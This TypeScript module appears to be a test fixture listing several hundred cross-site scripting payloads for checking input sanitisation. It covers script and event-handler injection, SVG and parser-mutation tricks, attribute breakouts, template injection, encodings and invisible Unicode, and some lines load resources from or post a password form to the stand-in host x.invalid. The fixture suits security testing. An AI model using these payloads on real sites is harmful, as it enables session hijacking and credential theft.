import { faultOfLine } from '@shuangfang/shared/kit/text'

/**
 * Texts that try to become program: markup, attributes, addresses, templates, styles, tricks with encodings and
 * parsers. `§` is the number of the value they are put into: whatever runs calls `xss(§)` or asks `x.invalid` for it.
 */
const markup = String.raw`
<script>xss(§)</script>
<SCRIPT>xss(§)</SCRIPT>
<script src=//x.invalid/§></script>
<script src="https://x.invalid/§.js"></script>
<script type=module>xss(§)</script>
<script>/*</script><script>*/xss(§)</script>
<scr<script>ipt>xss(§)</scr</script>ipt>
</script><script>xss(§)</script>
<script/x>xss(§)</script >
<script async src=data:text/javascript,xss(§)></script>
<img src=x onerror=xss(§)>
<img src=x onerror="xss(§)">
<img src='x'onerror='xss(§)'>
<img/src=x/onerror=xss(§)>
<img src onerror=xss(§)>
<IMG SRC=x ONERROR=xss(§)>
<img src=x onerror=xss(§)//
<img src=x:x onerror=&#120;ss(§)>
<img src=x onerror="&#x78;&#x73;&#x73;(§)">
<img src=x onerror=\u0078ss(§)>
<img src=x onerror="window['x'+'ss'](§)">
<img src=x onerror=eval(atob('eHNzKDEp'))//§>
<img srcset=x onerror=xss(§)>
<img src=//x.invalid/§>
<img src=https://x.invalid/§.png>
<image src=x onerror=xss(§)>
<image xlink:href=x onerror=xss(§)>
<picture><source srcset=x><img onerror=xss(§)></picture>
<video src=x onerror=xss(§)></video>
<video><source onerror=xss(§)></video>
<video poster=//x.invalid/§></video>
<audio src=x onerror=xss(§)>
<audio autoplay src=//x.invalid/§></audio>
<input onfocus=xss(§) autofocus>
<input type=image src=x onerror=xss(§)>
<select onfocus=xss(§) autofocus></select>
<textarea onfocus=xss(§) autofocus></textarea>
<button onfocus=xss(§) autofocus>登录</button>
<a onfocus=xss(§) href=# autofocus>x</a>
<div onfocus=xss(§) tabindex=0 autofocus>x</div>
<details open ontoggle=xss(§)>x</details>
<marquee onstart=xss(§)>x</marquee>
<body onload=xss(§)>
<body onpageshow=xss(§)>
<style onload=xss(§)></style>
<link rel=stylesheet href=//x.invalid/§>
<link rel=prefetch href=//x.invalid/§>
<link rel=stylesheet href=x onerror=xss(§)>
<base href=//x.invalid/§/>
<meta http-equiv=refresh content="0;url=//x.invalid/§">
<meta http-equiv=refresh content="0;url=javascript:xss(§)">
<iframe src=javascript:xss(§)></iframe>
<iframe src=javascript:parent.xss(§)></iframe>
<iframe srcdoc="<script>parent.xss(§)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.xss(§)&gt;"></iframe>
<iframe src=//x.invalid/§></iframe>
<iframe onload=xss(§)></iframe>
<object data=javascript:xss(§)></object>
<object data=//x.invalid/§></object>
<object onerror=xss(§)></object>
<embed src=javascript:xss(§)>
<embed src=//x.invalid/§>
<frameset onload=xss(§)>
<form action=javascript:xss(§)><button>登录</button></form>
<form action=//x.invalid/§><input name=password></form>
<form><button formaction=javascript:xss(§)>x</button></form>
<isindex action=javascript:xss(§) type=submit>
<keygen onfocus=xss(§) autofocus>
<p onmouseover=xss(§)>x</p>
<p onpointerenter=xss(§) style=position:fixed;inset:0>x</p>
<b onanimationstart=xss(§) style=animation:el-fade-in>x</b>
<p onclick=xss(§)>x</p>
<x onclick=xss(§)>x
<b>xss(§)</b>
<!--><img src=x onerror=xss(§)>-->
<!--<img src="--><img src=x onerror=xss(§)//">
<![CDATA[<img src=x onerror=xss(§)>]]>
<?xml version="1.0"?><x onload=xss(§)/>
<%= xss(§) %>`

const svg = `
<svg onload=xss(§)>
<svg/onload=xss(§)>
<svg><script>xss(§)</script></svg>
<svg><script href=//x.invalid/§></script></svg>
<svg><script xlink:href=data:,xss(§)></script></svg>
<svg><animate onbegin=xss(§) attributeName=x dur=1s>
<svg><set onbegin=xss(§) attributeName=x></svg>
<svg><a xlink:href=javascript:xss(§)><text>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:xss(§) /><text>x</text></a></svg>
<svg><image href=//x.invalid/§></svg>
<svg><image href=x onerror=xss(§)></svg>
<svg><use href=data:image/svg+xml,x#§></svg>
<svg><foreignObject><img src=x onerror=xss(§)></foreignObject></svg>
<svg><style>*{background:url(//x.invalid/§)}</style></svg>
<svg><p><style><img src=x onerror=xss(§)></style></p></svg>
<math><mi xlink:href=javascript:xss(§)>x</mi></math>
<math href=javascript:xss(§)>x</math>
<math><mtext><img src=x onerror=xss(§)></mtext></math>`

/** What parsers read differently the second time. */
const mutation = `
<noscript><p title="</noscript><img src=x onerror=xss(§)>">
<template><img src=x onerror=xss(§)></template>
<xmp><p title="</xmp><img src=x onerror=xss(§)>">
<textarea></textarea><img src=x onerror=xss(§)></textarea>
<title></title><img src=x onerror=xss(§)>
<style></style><img src=x onerror=xss(§)></style>
<select><style></select><img src=x onerror=xss(§)></style>
<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=xss(§)>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=xss(§)>
<svg></p><style><a id="</style><img src=x onerror=xss(§)>">
<table><caption><img src=x onerror=xss(§)></caption></table>
<listing><img src=x onerror=xss(§)></listing>
<plaintext>xss(§)`

/** Out of the place they were put into. */
const breakouts = String.raw`
"><img src=x onerror=xss(§)>
'><img src=x onerror=xss(§)>
--><img src=x onerror=xss(§)>
]]><img src=x onerror=xss(§)>
</title><img src=x onerror=xss(§)>
</textarea><img src=x onerror=xss(§)>
</style><img src=x onerror=xss(§)>
</option></select><img src=x onerror=xss(§)>
</td></tr></table><img src=x onerror=xss(§)>
" onfocus=xss(§) autofocus x="
' onfocus=xss(§) autofocus x='
" onmouseover="xss(§)
" style="background:url(//x.invalid/§)
' style='position:fixed;inset:0' onclick='xss(§)
";xss(§);//
';xss(§);//
\";xss(§);//
-xss(§)-
'-xss(§)-'
"+xss(§)+"
*/xss(§)/*
</script><img src=x onerror=xss(§)>`

/** With what would end the lines above. */
const literals = ['`-xss(§)-`', `\${xss(§)}`, `\`\${xss(§)}\``, '#{xss(§)}', '@{xss(§)}']

const addresses = String.raw`
javascript:xss(§)
JaVaScRiPt:xss(§)
javascript://x%0Axss(§)
java&#10;script:xss(§)
&#106;avascript:xss(§)
javascript&colon;xss(§)
 javascript:xss(§)
data:text/html,<script>xss(§)</script>
data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=§
vbscript:xss(§)
//x.invalid/§
https://x.invalid/§
\\x.invalid\§
[x](javascript:xss(§))
![x](//x.invalid/§)
<javascript:xss(§)>`

const templates = `
{{xss(§)}}
{{constructor.constructor('xss(§)')()}}
{{$el.ownerDocument.defaultView.xss(§)}}
{{_c.constructor('xss(§)')()}}
{{_openBlock.constructor('xss(§)')()}}
{{{xss(§)}}}
[[xss(§)]]
{%xss(§)%}
<p v-html="'<img src=x onerror=xss(§)>'">x</p>
<p :title="xss(§)" @vue:mounted="xss(§)">x</p>
<x is=script src=//x.invalid/§></x>
<component :is="'script'">xss(§)</component>
{"__html":"<img src=x onerror=xss(§)>"}
{"__proto__":{"innerHTML":"<img src=x onerror=xss(§)>"}}
{b|xss(§)}{a|x}
{@xss(§)}`

const styles = `
<style>@import'//x.invalid/§'</style>
<style>*{background:url(//x.invalid/§)}</style>
<style>body{display:none}</style>§
<p style=background:url(//x.invalid/§)>x</p>
<p style=width:expression(xss(§))>x</p>
<p style=-moz-binding:url(//x.invalid/§)>x</p>
background:url(//x.invalid/§)
red;background:url(//x.invalid/§)
</style><link rel=stylesheet href=//x.invalid/§>`

const encodings = String.raw`
&lt;img src=x onerror=xss(§)&gt;
&amp;lt;script&amp;gt;xss(§)&amp;lt;/script&amp;gt;
%3Cimg src=x onerror=xss(§)%3E
%253Cscript%253Exss(§)%253C/script%253E
\x3cimg src=x onerror=xss(§)\x3e
\u003cimg src=x onerror=xss(§)\u003e
&#60;img src=x onerror=xss(§)&#62;
&#x3c;img src=x onerror=xss(§)&#x3e;
+ADw-script+AD4-xss(§)+ADw-/script+AD4-
＜img src=x onerror=xss(§)＞
﹤script﹥xss(§)﹤/script﹥
‹script›xss(§)‹/script›
<ſcript>xss(§)</ſcript>
<ımg src=x onerror=xss(§)>`

/** Characters that cannot be seen, or change the order of what is seen. */
const unicode = [
  '<img\u00a0src=x\u00a0onerror=xss(§)>',
  '<img\u2028src=x\u2028onerror=xss(§)>',
  '<\u200bscript>xss(§)</script>',
  '<scr\u00adipt>xss(§)</scr\u00adipt>',
  '\u202e<img src=x onerror=xss(§)>\u202c',
  '\u2066<svg onload=xss(§)>\u2069',
  '\ufeff<svg onload=xss(§)>',
  '<img src=x\u000conerror=xss(§)>',
  '<img src=x\u000bonerror=xss(§)>',
  '<svg\u0009onload=xss(§)>',
  '<svg\u000aonload=xss(§)>',
  '<a href="java\u0009script:xss(§)">x</a>',
  '<a href="\u0001javascript:xss(§)">x</a>',
  '𝒙𝒔𝒔<svg onload=xss(§)>𠮷😀',
  '<svg onload=xss(§) 隐患',
  'x\u0308\u0308\u0308<b>xss(§)</b>',
]

const lines = (block: string) => block.split('\n').slice(1)
export const payloads: readonly string[] = [
  ...[markup, svg, mutation, breakouts].flatMap(lines),
  ...literals,
  ...[addresses, templates, styles, encodings].flatMap(lines),
  ...unicode,
]

/** Those that a field takes at all: breaks, controls and changes of direction are refused (server/test/words.test.ts). */
export const writable: readonly string[] = payloads.filter((payload) => !faultOfLine(payload))

/** The shortest that do something, for fields with room for a word. */
export const shortPayloads: readonly string[] = ['<b>§', '{{§}}', '"§>', "'§>"]
